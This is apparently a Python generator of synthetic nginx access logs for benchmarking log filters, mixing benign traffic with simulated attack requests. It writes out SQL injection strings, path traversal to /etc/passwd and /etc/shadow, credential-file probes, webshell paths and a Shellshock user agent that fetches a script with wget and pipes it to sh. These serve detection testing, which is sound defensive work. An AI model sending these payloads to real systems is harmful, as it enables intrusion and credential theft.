#!/usr/bin/env python3
"""Synthetic nginx access log ("combined" format) for rebuff benchmarks.

    python3 gen_weblog.py --lines 1000000 --out /tmp/web.log [--stats F] [--seed N]

One line looks like

    203.0.113.9 - - [03/Mar/2025:06:25:01 +0000] "GET /blog/ HTTP/1.1" 200 6544 "-" "Mozilla/5.0 ..."

Same seed, same arguments: same bytes. Most traffic is benign (page views with
their assets, feeds, API calls, search-engine crawlers, health checks from the
LAN). The rest comes from a Zipf-like population of IPv4 and IPv6 attackers, in
bursts: WordPress and phpMyAdmin probes, .env/.git/credential hunting, router
exploits, path traversal, SQL injection, 401 brute force on /admin, 404 floods,
TLS on the plain-HTTP port (400), rate-limited clients (429), bad crawlers and
scanner user agents.

Every attack kind is built to match exactly one filter of web.yml (stream
"nginx"), and benign lines match none except the ordinary 404s (missing
apple-touch-icon and the like), which nginx.notfound counts along with the 404
floods. No line matches two filters. So the stats file (--stats, default
<out>.stats.json) gives the exact expected match count of every filter:

    "counts":                 lines per kind (attack and benign)
    "expected_matches":       {"nginx.<filter>": lines} for every web.yml filter
    "expected_matches_total": their sum

Standard library only.
"""

import argparse
import datetime as dt
import json
import random
import sys

# ------------------------------------------------------------------ vocabulary
BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36 Edg/123.0.2420.81",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 13; SM-A536B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.6312.99 Mobile Safari/537.36",
]
GOOD_BOTS = [
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
    "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
    "Feedly/1.0 (+http://www.feedly.com/fetcher.html; 12 subscribers; )",
]
# user agents of the attack kinds that web.yml recognises by path or status
ATTACK_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36",
    "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/49.0.2623.112 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:83.0) Gecko/20100101 Firefox/83.0",
    "Mozilla/5.0",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "curl/7.88.1",
    "Python-urllib/3.10",
    "-",
]
BAD_BOTS = [  # web.yml nginx.badbots
    "Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
    "Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot; help@moz.com)",
    "Mozilla/5.0 (Linux; Android 7.0;) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)",
    "Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; Bytespider; spider-feedback@bytedance.com)",
    "Mozilla/5.0 (compatible; BLEXBot/1.0; +http://webmeup-crawler.com/)",
    "Mozilla/5.0 (compatible; DataForSeoBot/1.0; +https://dataforseo.com/dataforseo-bot)",
    "Mozilla/5.0 (compatible; MegaIndex.ru/2.0; +http://megaindex.com/crawler)",
    "serpstatbot/2.1 (advanced backlink tracking bot; https://serpstatbot.com/; abuse@serpstatbot.com)",
]
SCANNER_UAS = [  # web.yml nginx.scannerua
    "Mozilla/5.0 zgrab/0.x",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Nuclei",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)",
    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    "Fuzz Faster U Fool v2.1.0-dev",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
]
SITE = "https://www.example.org"
SEARCH_REFS = ["https://www.google.com/", "https://duckduckgo.com/", "https://www.bing.com/",
               "https://news.ycombinator.com/", "https://www.reddit.com/r/selfhosted/"]
SLUGS = ["migrating-to-ipv6", "self-hosting-mail-in-2025", "nginx-caching-notes", "backup-strategy-for-a-vps",
         "why-we-left-wordpress", "tuning-postgres-on-small-boxes", "a-year-of-fail2ban-alternatives",
         "rust-for-sysadmins", "dns-over-https-at-home", "zfs-snapshots-explained", "letsencrypt-wildcards",
         "systemd-timers-vs-cron", "monitoring-with-prometheus", "ssh-hardening-checklist",
         "docker-without-root", "home-lab-network-diagram", "writing-a-log-parser", "ipv4-exhaustion-and-you"]
TAGS = ["linux", "networking", "security", "mail", "rust", "self-hosting", "databases", "ipv6"]
WORDS = ["apple", "router", "vpn", "backup", "printer", "kernel", "firewall", "laptop", "nas", "camera",
         "mail", "dns", "raspberry", "docker", "ssh", "proxy", "wifi", "ups", "switch", "zfs"]
FLOOD_DIRS = ["old", "new", "test", "tmp", "dev", "staging", "api2", "assets", "uploads", "files", "data",
              "include", "lib", "demo", "beta", "portal", "panel", "members", "forum", "shop", "store",
              "cart", "blog2", "site2", "home", "main", "modules", "sites", "themes", "public"]
FLOOD_NAMES = ["index", "login", "main", "default", "home", "info", "test", "admin2", "install", "setup1",
               "readme", "license", "changelog", "debug", "status", "config1", "data", "user", "api", "phpinfo"]
FLOOD_EXTS = ["php", "html", "asp", "aspx", "jsp", "txt", "bak", "json", "xml", "cgi", "old", "inc"]
TLS_GARBAGE = [
    r"\x16\x03\x01\x00\xF4\x01\x00\x00\xF0\x03\x03\x9A\x1C\x8E",
    r"\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03\xD8\x0F",
    r"\x16\x03\x01\x00\xCA\x01\x00\x00\xC6\x03\x03\x04\x1F\xB2\x7E",
    r"SSH-2.0-Go",
    r"\x03\x00\x00/*\xE0\x00\x00\x00\x00\x00Cookie: mstshash=Administr",
    "-",
]

# ------------------------------------------------------------------ attack kinds
# name (= web.yml filter), weight (attack events), burst (min, max lines),
# requests (method, path choices), statuses. No attack kind returns 400, 401,
# 404 or 429 unless its filter is about that status; none uses a UA from
# BAD_BOTS or SCANNER_UAS unless its filter is about user agents.


def _choice(rng, xs):
    return xs[int(rng.random() * len(xs))]


def paths_wplogin(rng):
    return _choice(rng, ["GET", "POST", "POST", "POST"]), _choice(rng, [
        "/wp-login.php", "/wp-login.php?action=register", "/wp-login.php?action=lostpassword", "/wp-login.php"])


def paths_xmlrpc(rng):
    return "POST", _choice(rng, ["/xmlrpc.php", "/xmlrpc.php?rsd"])


def paths_wlwmanifest(rng):
    return "GET", _choice(rng, ["", "/blog", "/wordpress", "/wp", "/site", "/cms", "/web", "/news", "/2019",
                                "/shop", "/test", "/media"]) + "/wp-includes/wlwmanifest.xml"


def paths_wpplugins(rng):
    return "GET", "/wp-content/plugins/" + _choice(rng, [
        "wp-file-manager", "revslider", "contact-form-7", "elementor", "duplicator", "wp-statistics",
        "ultimate-member", "litespeed-cache"]) + "/readme.txt"


def paths_dotenv(rng):
    return "GET", _choice(rng, ["", "", "/api", "/backend", "/laravel", "/app", "/admin", "/core", "/docker"]) + \
        _choice(rng, ["/.env", "/.env", "/.env.bak", "/.env.production", "/.env.local", "/.env.save"])


def paths_dotgit(rng):
    return "GET", _choice(rng, ["", "", "/app", "/web", "/src"]) + _choice(rng, [
        "/.git/config", "/.git/HEAD", "/.git/index", "/.git/logs/HEAD", "/.git/refs/heads/main"])


def paths_awscreds(rng):
    return "GET", _choice(rng, ["", "/home", "/root", "/.config", "/app"]) + "/.aws/credentials"


def paths_phpmyadmin(rng):
    return "GET", "/" + _choice(rng, ["phpmyadmin", "phpMyAdmin", "pma", "PMA", "myadmin", "mysql"]) + \
        _choice(rng, ["/", "/index.php", "/scripts/setup.php", "/README"])


def paths_phpunit(rng):
    return _choice(rng, ["GET", "POST"]), _choice(rng, ["", "/laravel", "/lib", "/www", "/api", "/admin"]) + \
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"


def paths_cgibin(rng):
    return _choice(rng, ["GET", "POST"]), "/cgi-bin/" + _choice(rng, [
        "luci", "test.cgi", "admin.cgi", "login.cgi", "config.exp", "mainfunction.cgi", "ViewLog.asp", "bash"])


def paths_traversal(rng):
    return "GET", _choice(rng, [
        "/static/../../../../../etc/passwd", "/download?file=../../../../etc/passwd",
        "/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "/index.php?page=../../../../../../etc/passwd",
        "/assets/%2E%2E/%2E%2E/%2E%2E/windows/win.ini", "/file?name=..%2f..%2f../etc/shadow"])


def paths_sqli(rng):
    n = rng.randint(1, 999)
    return "GET", _choice(rng, [
        f"/products?id={n}+UNION+SELECT+1,2,3,4--",
        f"/item?id={n}%20union%20all%20select%20null,null,version()--",
        f"/search?q=%27+OR+1=1--+-&page={n % 9 + 1}",
        f"/news?id={n}%27%20OR%201=1%23",
        f"/category?id=-{n}+UNION+ALL+SELECT+CONCAT(0x7171,0x7a),NULL--",
    ])


def paths_shellshock(rng):
    return "GET", _choice(rng, ["/", "/index.html", "/status", "/test.cgi", "/cgi-sys/entropysearch.cgi"])


def paths_tomcat(rng):
    return "GET", _choice(rng, ["/manager/html", "/manager/text/list", "/manager/html/upload"])


def paths_actuator(rng):
    return "GET", "/actuator/" + _choice(rng, ["env", "heapdump", "gateway/routes", "env/spring.datasource.password"])


def paths_backups(rng):
    return "GET", "/" + _choice(rng, ["backup", "db", "dump", "site", "www", "database"]) + "." + \
        _choice(rng, ["sql", "zip", "tar.gz", "sql", "zip"])


def paths_configfiles(rng):
    return "GET", _choice(rng, ["/config.json", "/wp-config.php.bak", "/wp-config.php.old", "/wp-config.php.save",
                                "/.DS_Store", "/web.config", "/configuration.php-dist"])


def paths_hnap(rng):
    return _choice(rng, ["GET", "POST"]), _choice(rng, ["/HNAP1/", "/HNAP1"])


def paths_gpon(rng):
    return "POST", "/GponForm/diag_Form?images/"


def paths_boaform(rng):
    return "POST", "/boaform/admin/formLogin"


def paths_fortinet(rng):
    return "GET", _choice(rng, ["/remote/login?lang=en", "/remote/fgt_lang?lang=en", "/remote/login"])


def paths_exchange(rng):
    return _choice(rng, ["GET", "POST"]), _choice(rng, [
        "/owa/auth/logon.aspx?url=https%3a%2f%2f1%2fecp%2f", "/autodiscover/autodiscover.xml",
        "/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application", "/owa/auth/logon.aspx"])


def paths_javaapps(rng):
    return "GET", _choice(rng, ["/solr/admin/info/system?wt=json", "/solr/admin/cores?action=STATUS",
                                "/druid/index.html", "/geoserver/web/"])


def paths_ignition(rng):
    return "POST", "/_ignition/execute-solution"


def paths_webshells(rng):
    return _choice(rng, ["GET", "POST"]), _choice(rng, ["", "", "/wp-content/uploads", "/images", "/tmp", "/upload"]) + \
        "/" + _choice(rng, ["shell", "wso", "alfa", "c99", "r57", "up", "cmd"]) + ".php"


def paths_proxyprobe(rng):
    return "GET", _choice(rng, ["http://www.example.com/", "http://azenv.net/", "https://www.google.com/",
                                "http://httpbin.org/ip", "http://ip-api.com/json"])


def paths_unauthorized(rng):
    return _choice(rng, ["GET", "GET", "POST"]), _choice(rng, ["/admin/", "/admin/login", "/admin/api/users",
                                                              "/private/", "/grafana/login", "/status/metrics"])


def paths_flood(rng):
    return "GET", "/" + _choice(rng, FLOOD_DIRS) + "/" + _choice(rng, FLOOD_NAMES) + "." + _choice(rng, FLOOD_EXTS)


def paths_ratelimited(rng):
    return _choice(rng, ["GET", "GET", "POST"]), _choice(rng, [
        f"/api/v1/search?q={_choice(rng, WORDS)}", "/login", "/api/v1/items?page=" + str(rng.randint(1, 400)),
        "/contact"])


def paths_benign_page(rng):
    return "GET", benign_page(rng)


ATTACKS = [
    # name,          weight, burst,   paths,               statuses
    ("wplogin",         9.0, (1, 8),   paths_wplogin,       [444, 403, 302]),
    ("xmlrpc",          4.0, (1, 20),  paths_xmlrpc,        [403, 405, 444]),
    ("wlwmanifest",     3.0, (1, 12),  paths_wlwmanifest,   [403, 444]),
    ("wpplugins",       2.0, (1, 10),  paths_wpplugins,     [403]),
    ("dotenv",          6.0, (1, 6),   paths_dotenv,        [403]),
    ("dotgit",          3.0, (1, 5),   paths_dotgit,        [403]),
    ("awscreds",        1.0, (1, 3),   paths_awscreds,      [403]),
    ("phpmyadmin",      4.0, (1, 8),   paths_phpmyadmin,    [403, 444]),
    ("phpunit",         2.0, (1, 6),   paths_phpunit,       [403, 444]),
    ("cgibin",          3.0, (1, 4),   paths_cgibin,        [403, 444]),
    ("traversal",       1.5, (1, 6),   paths_traversal,     [403, 500]),
    ("sqli",            1.5, (2, 30),  paths_sqli,          [403, 500, 200]),
    ("shellshock",      0.5, (1, 2),   paths_shellshock,    [200, 403]),
    ("tomcat",          1.0, (1, 3),   paths_tomcat,        [403, 444]),
    ("actuator",        1.0, (1, 4),   paths_actuator,      [403, 444]),
    ("backups",         1.5, (1, 12),  paths_backups,       [403, 444]),
    ("configfiles",     1.5, (1, 7),   paths_configfiles,   [403]),
    ("hnap",            1.0, (1, 1),   paths_hnap,          [444]),
    ("gpon",            0.7, (1, 2),   paths_gpon,          [444]),
    ("boaform",         0.7, (1, 1),   paths_boaform,       [444]),
    ("fortinet",        0.8, (1, 2),   paths_fortinet,      [444]),
    ("exchange",        0.8, (1, 3),   paths_exchange,      [444]),
    ("javaapps",        0.8, (1, 4),   paths_javaapps,      [444]),
    ("ignition",        0.5, (1, 1),   paths_ignition,      [405, 444]),
    ("webshells",       2.0, (1, 15),  paths_webshells,     [444, 403]),
    ("proxyprobe",      1.0, (1, 2),   paths_proxyprobe,    [444]),
    ("unauthorized",    5.0, (2, 25),  paths_unauthorized,  [401]),
    ("notfound",        4.0, (5, 60),  paths_flood,         [404]),
    ("badrequest",      3.0, (1, 3),   None,                [400]),
    ("ratelimited",     2.0, (5, 40),  paths_ratelimited,   [429]),
    ("badbots",         6.0, (1, 30),  paths_benign_page,   [200, 200, 200, 301, 304]),
    ("scannerua",       3.0, (1, 5),   paths_benign_page,   [200, 301, 302, 403]),
]
# web.yml filter -> the kinds whose lines it matches
FILTER_KINDS = {name: [name] for name, *_ in ATTACKS}
FILTER_KINDS["notfound"] = ["notfound", "benign_404"]
BENIGN_KINDS = ["page", "asset", "feed", "api", "login_ok", "crawler", "healthcheck", "benign_404"]


def benign_page(rng):
    r = rng.random()
    if r < 0.18:
        return "/"
    if r < 0.55:
        return "/blog/" + _choice(rng, SLUGS)
    if r < 0.65:
        return f"/blog/page/{rng.randint(2, 30)}"
    if r < 0.72:
        return "/tag/" + _choice(rng, TAGS)
    if r < 0.80:
        return _choice(rng, ["/about", "/contact", "/projects", "/talks", "/now", "/privacy"])
    if r < 0.90:
        return "/docs/" + _choice(rng, ["install", "configuration", "faq", "changelog", "api", "upgrade"])
    return f"/downloads/tool-{rng.randint(1, 3)}.{rng.randint(0, 12)}.{rng.randint(0, 9)}.tar.gz"


def benign_asset(rng):
    return _choice(rng, [
        "/static/css/site.3f9a1c.css", "/static/js/app.77b0e2.js", "/static/js/vendor.1c02aa.js",
        "/static/fonts/inter-var.woff2", "/favicon.ico", "/static/img/logo.svg",
    ]) if rng.random() < 0.7 else f"/images/{_choice(rng, SLUGS)}/fig{rng.randint(1, 6)}.webp"


# ------------------------------------------------------------------ addresses
def public_ipv4(rng):
    while True:
        a = rng.randint(1, 223)
        b = rng.randint(0, 255)
        if a in (10, 127) or (a == 100 and 64 <= b <= 127) or (a == 169 and b == 254) \
                or (a == 172 and 16 <= b <= 31) or (a == 192 and b == 168):
            continue
        return f"{a}.{b}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"


def public_ipv6(rng):
    head = [f"{rng.randint(0x2001, 0x2c0f):x}", f"{rng.randint(0, 0xffff):x}",
            f"{rng.randint(0, 0xffff):x}", f"{rng.randint(0, 0xffff):x}"]
    r = rng.random()
    if r < 0.45:   # SLAAC-like, full interface id
        tail = [f"{rng.randint(0, 0xffff):x}" for _ in range(4)]
        return ":".join(head + tail)
    if r < 0.85:   # hosting provider, short host part
        return ":".join(head) + f"::{rng.randint(1, 0xfff):x}"
    return ":".join(head[:2]) + f"::{rng.randint(1, 0xffff):x}"


def zipf_cum(n, s):
    acc, out = 0.0, []
    for i in range(n):
        acc += 1.0 / (i + 1) ** s
        out.append(acc)
    return out


# ------------------------------------------------------------------ main
def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--lines", type=int, default=1_000_000)
    ap.add_argument("--out", default="-")
    ap.add_argument("--stats", default=None, help="per-kind counts as JSON (default <out>.stats.json)")
    ap.add_argument("--seed", type=int, default=20261123)
    ap.add_argument("--attack-ratio", type=float, default=0.07,
                    help="share of attack bursts among events (0.07: about 18%% of the lines)")
    ap.add_argument("--ipv4-attackers", type=int, default=4000)
    ap.add_argument("--ipv6-attackers", type=int, default=1000)
    ap.add_argument("--clients", type=int, default=20000, help="benign clients (7/8 IPv4, 1/8 IPv6)")
    ap.add_argument("--rate", type=float, default=15.0, help="mean lines per second of log time")
    ap.add_argument("--start", default="2025-03-03T00:00:00", help="log time of the first line (UTC)")
    args = ap.parse_args()
    if args.lines < 0:
        ap.error("--lines must be >= 0")

    rng = random.Random(args.seed)
    attackers = [public_ipv4(rng) for _ in range(args.ipv4_attackers)] + \
                [public_ipv6(rng) for _ in range(args.ipv6_attackers)]
    rng.shuffle(attackers)
    att_cum = zipf_cum(len(attackers), 1.1)
    n6 = args.clients // 8
    clients = [public_ipv4(rng) for _ in range(args.clients - n6)] + [public_ipv6(rng) for _ in range(n6)]
    rng.shuffle(clients)
    cli_cum = zipf_cum(len(clients), 0.8)
    crawlers = [f"66.249.{rng.randint(64, 79)}.{rng.randint(1, 254)}" for _ in range(30)] + \
               [f"157.55.{rng.randint(0, 255)}.{rng.randint(1, 254)}" for _ in range(20)] + \
               [f"2a03:2880:f{rng.randint(0, 0xfff):03x}::face:b00c" for _ in range(10)]
    lan = ["10.0.0.2", "10.0.0.3", "10.0.8.14"]
    a_names = [a[0] for a in ATTACKS]
    a_cum = []
    acc = 0.0
    for a in ATTACKS:
        acc += a[1]
        a_cum.append(acc)

    counts = {k: 0 for k in a_names + BENIGN_KINDS}
    attack_ips = set()
    clients_seen = set()

    t0 = dt.datetime.fromisoformat(args.start).replace(tzinfo=dt.timezone.utc)
    secs = 0.0
    stamp_cache = {}

    def stamp(s):
        k = int(s)
        v = stamp_cache.get(k)
        if v is None:
            if len(stamp_cache) > 4096:
                stamp_cache.clear()
            v = (t0 + dt.timedelta(seconds=k)).strftime("%d/%b/%Y:%H:%M:%S +0000")
            stamp_cache[k] = v
        return v

    out = sys.stdout if args.out == "-" else open(args.out, "w", buffering=1 << 20)
    written = 0
    buf = []

    def emit(kind, ip, user, method_path, status, size, ref, ua):
        nonlocal secs, written
        secs += rng.expovariate(args.rate)
        if method_path is None:
            req = _choice(rng, TLS_GARBAGE)
        else:
            m, p = method_path
            req = f"{m} {p} HTTP/{_choice(rng, ['1.1', '1.1', '1.0', '2.0'])}"
        buf.append(f'{ip} - {user} [{stamp(secs)}] "{req}" {status} {size} "{ref}" "{ua}"\n')
        counts[kind] += 1
        written += 1
        if len(buf) >= 4096:
            out.write("".join(buf))
            buf.clear()

    while written < args.lines:
        left = args.lines - written
        if rng.random() < args.attack_ratio:
            i = bisect(a_cum, rng.random() * a_cum[-1])
            name, _, (lo, hi), paths, statuses = ATTACKS[i]
            ip = attackers[bisect(att_cum, rng.random() * att_cum[-1])]
            attack_ips.add(ip)
            ua = _choice(rng, BAD_BOTS) if name == "badbots" else \
                _choice(rng, SCANNER_UAS) if name == "scannerua" else \
                "() { :; }; /bin/bash -c \\x22wget -qO- http://198.51.100.7/x.sh|sh\\x22" if name == "shellshock" else \
                _choice(rng, ATTACK_UAS)
            for _ in range(min(rng.randint(lo, hi), left)):
                user = _choice(rng, ["admin", "root", "test", "user", "guest"]) \
                    if name == "unauthorized" and rng.random() < 0.6 else "-"
                mp = None if paths is None else paths(rng)
                st = _choice(rng, statuses)
                size = 0 if st in (444, 304) else (157 if st >= 400 else rng.randint(300, 60000))
                if name == "badrequest":
                    size = 150 + rng.randint(0, 16)
                emit(name, ip, user, mp, st, size, "-", ua)
            continue
        # benign event
        r = rng.random()
        if r < 0.03:
            ip = _choice(rng, lan)
            emit("healthcheck", ip, "-", ("GET", _choice(rng, ["/healthz", "/nginx_status"])), 200,
                 rng.randint(2, 120), "-", _choice(rng, ["kube-probe/1.29", "Prometheus/2.51.0", "curl/8.5.0"]))
            continue
        if r < 0.10:
            ip = _choice(rng, crawlers)
            emit("crawler", ip, "-", ("GET", _choice(rng, ["/robots.txt", "/sitemap.xml", "/feed.xml"])
                                     if rng.random() < 0.3 else benign_page(rng)),
                 _choice(rng, [200, 200, 200, 301, 304]), rng.randint(60, 30000), "-", _choice(rng, GOOD_BOTS))
            continue
        ip = clients[bisect(cli_cum, rng.random() * cli_cum[-1])]
        clients_seen.add(ip)
        ua = _choice(rng, BROWSERS)
        if r < 0.16:
            emit("feed", ip, "-", ("GET", _choice(rng, ["/feed.xml", "/blog/index.xml"])), _choice(rng, [200, 304, 304]),
                 rng.randint(0, 90000), "-", _choice(rng, GOOD_BOTS[-1:] + ["NetNewsWire (RSS Reader; https://netnewswire.com/)",
                                                                           "Miniflux/2.1.3 (https://miniflux.app)"]))
            continue
        if r < 0.28:
            n = rng.randint(1, 6)
            for _ in range(min(n, left)):
                emit("api", ip, "-", paths_api(rng), _choice(rng, [200, 200, 200, 204, 201, 304]),
                     rng.randint(2, 8000), SITE + "/", ua)
            continue
        if r < 0.30:
            emit("login_ok", ip, "-", ("POST", "/login"), 302, 0, SITE + "/login", ua)
            continue
        if r < 0.33:
            emit("benign_404", ip, "-", ("GET", _choice(rng, ["/apple-touch-icon.png", "/apple-touch-icon-precomposed.png",
                                                             "/blog/old-post-2017", "/img/banner.png",
                                                             "/.well-known/traffic-advice"])), 404, 153, "-", ua)
            continue
        page = benign_page(rng)
        emit("page", ip, "-", ("GET", page), _choice(rng, [200, 200, 200, 200, 304, 301]), rng.randint(1500, 40000),
             _choice(rng, SEARCH_REFS + ["-", "-", SITE + "/"]), ua)
        if not page.startswith("/downloads/"):
            for _ in range(min(rng.randint(0, 5), args.lines - written)):
                emit("asset", ip, "-", ("GET", benign_asset(rng)), _choice(rng, [200, 304, 304, 206]),
                     rng.randint(300, 200000), SITE + page, ua)
    out.write("".join(buf))
    if out is not sys.stdout:
        out.close()

    expected = {f"nginx.{f}": sum(counts[k] for k in kinds) for f, kinds in FILTER_KINDS.items()}
    attack_lines = sum(counts[k] for k in a_names)
    stats = {
        "generator": "gen_weblog.py",
        "format": "nginx combined",
        "lines": args.lines,
        "seed": args.seed,
        "attack_lines": attack_lines,
        "benign_lines": args.lines - attack_lines,
        "distinct_attacker_ips_seen": len(attack_ips),
        "distinct_attacker_ipv6_seen": sum(1 for ip in attack_ips if ":" in ip),
        "distinct_clients_seen": len(clients_seen),
        "counts": counts,
        "expected_matches": expected,
        "expected_matches_total": sum(expected.values()),
    }
    stats_path = args.stats or (None if args.out == "-" else args.out + ".stats.json")
    if stats_path:
        with open(stats_path, "w") as f:
            json.dump(stats, f, indent=2)
            f.write("\n")
    print(json.dumps({k: v for k, v in stats.items() if k != "counts"}, indent=2), file=sys.stderr)


def paths_api(rng):
    r = rng.random()
    if r < 0.5:
        return "GET", f"/api/v1/items?page={rng.randint(1, 50)}"
    if r < 0.8:
        return "GET", f"/api/v1/search?q={_choice(rng, WORDS)}"
    if r < 0.9:
        return "POST", "/api/v1/events"
    return "GET", f"/api/v1/items/{rng.randint(1, 99999)}"


def bisect(cum, x):
    lo, hi = 0, len(cum) - 1
    while lo < hi:
        mid = (lo + hi) // 2
        if cum[mid] < x:
            lo = mid + 1
        else:
            hi = mid
    return lo


if __name__ == "__main__":
    main()
